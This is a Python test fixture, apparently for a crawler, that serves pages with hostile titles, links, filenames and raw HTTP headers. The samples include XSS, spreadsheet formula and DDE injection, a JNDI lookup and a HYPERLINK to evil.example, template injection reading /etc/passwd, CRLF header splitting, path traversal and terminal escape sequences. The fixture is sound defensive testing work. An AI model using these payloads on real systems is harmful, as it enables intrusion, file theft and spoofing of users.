"""Titles, links and file names that try to break out of where they are written."""

from __future__ import annotations

from tests.odd.portals._pages import WORDS, Handler, Pages, about, and_about, html
from tests.odd.server import Place

TITLES = (
    "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "=HYPERLINK(&quot;http://evil.example&quot;)",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\x1b[2J\x1b[31mred\x1b]0;owned\x07",
    "[red]markup[/] [link=file:///etc/passwd]x",
    "\u202etxt.exe \u2066 left\u2069",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a}",
    "a\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "x" * 20_000,
)


def hostile_names(place: Place) -> Pages:
    pages = {f"/t{n}": html(f"<h1>{title}</h1><p>{WORDS}</p>", title=title) for n, title in enumerate(TITLES)}
    odd_links = "".join(
        f'<a href="{href}">{TITLES[n % len(TITLES)]}</a>'
        for n, href in enumerate(
            [
                "/../../../../etc/passwd.pdf", "/..%2f..%2fetc%2fpasswd.pdf", "/%00null.pdf", "/a%0d%0aX-Evil:1",
                "/C:%5cwindows%5csystem32.pdf", "/%e2%80%aefdp.exe", "/'&quot;&gt;&lt;img src=x onerror=alert(1)&gt;.pdf",
                "javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
                "/=1+1.csv", "/" + "n" * 300 + ".pdf", "/nul", "/con.txt",
            ]
        )
    )  # fmt: skip

    def named(handler: Handler) -> None:
        handler.page(
            b"%PDF-1.4", kind="application/pdf",
            headers={"Content-Disposition": "attachment; filename=\"../../../../tmp/owned.pdf\""},
        )  # fmt: skip

    return (
        and_about(*(f"{path} {TITLES[n]}" for n, path in enumerate(pages)), "/named.pdf")
        | pages
        | {
            "/": html(
                "".join(f"<a href={path}>{TITLES[n]}</a>" for n, path in enumerate(pages))
                + f"<a href=/about>درباره ما</a><a href=/named.pdf>نام</a>{odd_links}<p>{WORDS}</p>",
                title=TITLES[0],
            ),
            "/named.pdf": named,
        }
    )


def hostile_headers(place: Place) -> Pages:
    """Redirects and types that try to write further header lines."""

    def split(handler: Handler) -> None:
        handler.wfile.write(
            b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: /about%0d%0aSet-Cookie:%20a=b\x1b[31m\r\n\r\n"
        )

    def typed(handler: Handler) -> None:
        handler.wfile.write(
            b"HTTP/1.1 200 \x1b[2Jgreat\r\nContent-Length: 300\r\nContent-Type: text/html\x1b[31m;charset=../../x"
            b"\r\n\r\n" + b"<p>words of a page </p>" * 13 + b"x"
        )

    return and_about("/split", "/typed") | {"/split": split, "/typed": typed, "/about": about()}
